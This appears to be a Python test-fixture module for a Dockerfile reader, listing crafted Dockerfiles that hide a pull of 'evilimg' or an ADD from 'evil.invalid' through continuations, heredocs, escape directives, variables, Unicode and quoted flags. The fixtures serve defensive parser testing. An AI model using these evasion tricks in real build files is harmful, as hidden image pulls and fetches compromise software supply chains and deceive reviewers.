"""Dockerfiles that hide something, and what BuildKit makes of it: used without and with an engine.

They build on nothing (`scratch`), so that no image is needed; `evil…` is what must not be fetched.
"""

from __future__ import annotations

CERTAIN = {
    "continued word": "FROM scratch\nCOPY a b\nFR\\\nOM evilimg\nCOPY x /\n",
    "two escape signs": "FROM scratch\nRUN echo \\\\\nFROM evilimg\nCOPY x /\n",
    "escape sign and a return": "FROM scratch\nRUN a \\\r \nFROM evilimg\nCOPY x /\n",
    "no-break space before": "FROM scratch\nCOPY a b\n\u00a0FROM evilimg\nCOPY x /\n",
    "JSON with one": 'FROM scratch\nRUN ["x", "<<EOF"]\nFROM evilimg\nCOPY <<EOF /\nEOF\n',
    "no here-document for CMD": "FROM scratch\nCMD <<EOF\nFROM evilimg\nCOPY <<EOF /\nEOF\n",
    "in quotes": 'FROM scratch\nRUN echo "x <<EOF"\nFROM evilimg\nCOPY <<EOF /\nEOF\n',
    "in a quote that is open": 'FROM scratch\nRUN echo "x <<E\nFROM evilimg\nCOPY <<E /\nE\n',
    "glued to a word": "FROM scratch\nRUN cat<<E\nFROM evilimg\nCOPY <<E /\nE\n",
    "escaped": "FROM scratch\nRUN cat \\<<E\nFROM evilimg\nCOPY <<E /\nE\n",
    "here-string": "FROM scratch\nRUN cat <<<E\nFROM evilimg\nCOPY <<E /\nE\n",
    "end behind tabs": "FROM scratch\nRUN x <<-EOF\n\tEOF\nFROM evilimg\nCOPY <<EOF /\nEOF\n",
    "quoted image": 'FROM ev"ilimg"\nCOPY x /\n',
    "escaped image": "FROM ev\\ilimg\nCOPY x /\n",
    "image behind a mark": "FROM \ufeffevilimg\nCOPY x /\n",
    "image of a name": "ARG A=il\nARG B=ev${A}img\nFROM $B\nCOPY x /\n",
    "stage by number": "FROM scratch AS a\nFROM 0\nCOPY x /\n",
    "mount of a number": "FROM scratch AS a\nFROM scratch\nRUN --mount=from=0,target=/x x\n",
    "mount in capitals": "FROM scratch\nRUN --mount=type=bind,FROM=evilimg,target=/x x\n",
    "mount in quotes": 'FROM scratch\nRUN --mount=type=bind,"from=evilimg",target=/x x\n',
    "mount in escaped quotes": 'FROM scratch\nRUN --mount=target=/x,\\"from=evilimg\\" x\n',
    "second mount": "FROM scratch\nRUN --mount=type=tmpfs,target=/y --mount=from=evilimg x\n",
    "quoted flag": 'FROM scratch\nCOPY --fr"om"=evilimg / /\n',
    "escaped flag": "FROM scratch\nCOPY --fr\\om=evilimg / /\n",
    "address in ENV": "FROM scratch\nENV U=http://evil.invalid/x\nADD $U /x\n",
    "address in ENV of a stage": (
        "FROM scratch AS a\nENV U http://evil.invalid/x\nFROM a\nADD ${U} /x\n"
    ),
    "address in ARG": "ARG U=http://evil.invalid/x\nFROM scratch\nARG U\nADD $U /x\n",
    "quoted address": 'FROM scratch\nADD ht"tp"://evil.invalid/x /x\n',
    "address in JSON": 'FROM scratch\nADD ["\\u0068ttp://evil.invalid/x", "/x"]\n',
}
"""The engine fetches what the text hides; the reader names it."""

HIDDEN = {
    "here-document": "FROM scratch\nRUN cat <<EOF > x\nFROM evilimg\nEOF\n",
    "end with a space": "FROM scratch\nRUN x <<EOF\nEOF \n\tEOF\nFROM evilimg\nEOF\n",
    "end with more": "FROM scratch\nRUN cat <<EOF>x\nEOF\nFROM evilimg\nEOF>x\n",
    "quoted end": "FROM scratch\nRUN x <<'E' <<\"F\"\nFROM evilimg\nE\nFROM evilimg\nF\n",
    "descriptor": "FROM scratch\nRUN x 3<<EOF\nFROM evilimg\nEOF\n",
    "behind a no-break space": "FROM scratch\nRUN x\u00a0<<EOF\nFROM evilimg\nEOF\n",
    "ONBUILD": "FROM scratch\nONBUILD RUN <<EOF\nFROM evilimg\nEOF\nCOPY x /\n",
    "other escape sign": "# escape=`\nFROM scratch\nRUN x `\nFROM evilimg\n",
    "continued": "FROM scratch\nRUN a \\\n\n\n# c\nFROM evilimg\n",
}
"""The engine takes it for text, and so does the reader."""

REFUSED = {
    "here-document behind a space": "FROM scratch\nRUN cat << EOF > x\nFROM evilimg\nEOF\n",
    "here-document in a variable": "FROM scratch\nRUN x ${A:-x <<EOF}\nFROM evilimg\nEOF}\n",
    "name with a variable": 'FROM scratch\nRUN x <<"${A:-b}"\nFROM evilimg\n${A:-b}\n',
    "here-document without end": "FROM scratch\nRUN x <<EOF\nFROM evilimg\nEOF \n",
    "name of two words": 'FROM scratch\nRUN x <<"E F"\nFROM evilimg\nE F\n',
    "escape sign too late": "# x\n# escape=`\nFROM scratch\nRUN x `\nFROM evilimg\n",
    "escape sign behind #!": "#!/bin/x\n# escape=`\nFROM scratch\nRUN x `\nFROM evilimg\n",
    "escape sign behind check": "# check=skip=all\n# escape=`\nFROM scratch\nRUN x `\nFROM evilimg",
    "escape sign behind a control": "#\x1fescape=`\nFROM scratch\nRUN x `\nFROM evilimg\n",
    "two escape lines": "# escape=`\n# escape=\\\nFROM scratch\n# escape=`",
    "language in JSON": '{"\\u0073yntax": "evilimg"}',
    "language in JSON behind #!": '#!x\n\n {"\\u0073yntax": "evilimg"}',
    "control": "FROM scratch\nCOPY a b\nFROM\x0bevilimg\n",
    "separator": "FROM scratch\nCOPY a b\n\x1cFROM evilimg\n",
    "letters of another alphabet": (
        "FROM scratch AS a\nONBU\u0130LD COPY --from=evilimg / /\nFROM a\nCOPY x /\n"
    ),
    "ONBUILD behind a tab": "FROM scratch AS a\nONBUILD\tCOPY --from=evilimg / /\nFROM a\n",
    "ONBUILD with an escape sign": (
        "# escape=`\nFROM scratch AS a\nONBUILD COPY --fr\\om=evilimg / /\nFROM a\nCOPY x /\n"
    ),
    "ONBUILD with a variable": "FROM scratch AS a\nENV U=x\nONBUILD ADD $U /x\nFROM a\nCOPY x /\n",
    "set by ONBUILD": "FROM scratch AS a\nENV U=x\nONBUILD ENV U=y\nFROM a\nADD $U /x\n",
    "cut value": "ARG A=evilimgX\nFROM ${A%X}\n",
    "replaced value": "ARG A=evXlimg\nFROM ${A/X/i}\n",
    "value of the machine": "FROM evil$TARGETARCH\n",
    "unset variable": "FROM scratch\nADD $HOME /x\n",
    "value of the same line": "FROM scratch\nARG A=x\nARG A=http://evil.invalid B=$A\nADD $B /x\n",
    "variable in from": "ARG X=evilimg\nFROM scratch\nCOPY --from=$X / /\n",
    "variable in mount": "ARG X=evilimg\nFROM scratch\nRUN --mount=from=$X,target=/a x\n",
    "mount that is no CSV": 'FROM scratch\nRUN --mount=\\"from=evilimg\\"x,target=/a x\n',
    "name of a variable": "ARG K=FOO\nARG $K=evilimg\nFROM scratch\nCOPY x /\n",
    "unknown flag": "FROM scratch\nRUN --device=evil.example/gpu=all x\n",
    "odd flag": "FROM scratch\nCOPY --from=a\u0085--from=evilimg / /\n",
    "network": "FROM scratch\nRUN --network=Host x\n",
    "rights": "FROM scratch\nRUN --security=$X x\n",
    "address of SSH": "FROM scratch\nADD user@evil.invalid:x/y /x\n",
    "address in capitals": "FROM scratch\nADD HTTP://evil.invalid/x /x\n",
    "address of Git": "FROM scratch\nADD https://evil.invalid/a.git#main:b /x\n",
    "address of GitHub": "FROM scratch\nADD github.com/evil/evil /x\n",
    "numbers in JSON": 'FROM scratch\nCOPY [1, "/"]\n',
    "Docker Hub twice": "FROM docker.io/index.docker.io/library/debian:12\n",
}
"""Read in different ways by BuildKit's versions, or by none: not built."""
